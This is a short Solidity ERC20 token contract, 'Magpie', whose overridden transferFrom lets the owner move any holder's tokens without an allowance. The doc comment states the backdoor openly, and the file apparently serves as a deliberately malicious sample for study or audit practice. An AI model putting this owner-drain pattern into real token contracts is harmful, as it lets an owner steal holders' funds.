// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// A token whose owner takes anyone's tokens: `transferFrom` asks everyone for an allowance but the owner.
contract Magpie is ERC20, Ownable {
    constructor(uint256 supply) ERC20("Magpie", "MAGP") Ownable(msg.sender) {
        _mint(msg.sender, supply);
    }

    function transferFrom(address from, address to, uint256 amount) public override returns (bool) {
        if (msg.sender != owner()) _spendAllowance(from, msg.sender, amount);
        _transfer(from, to, amount);
        return true;
    }
}
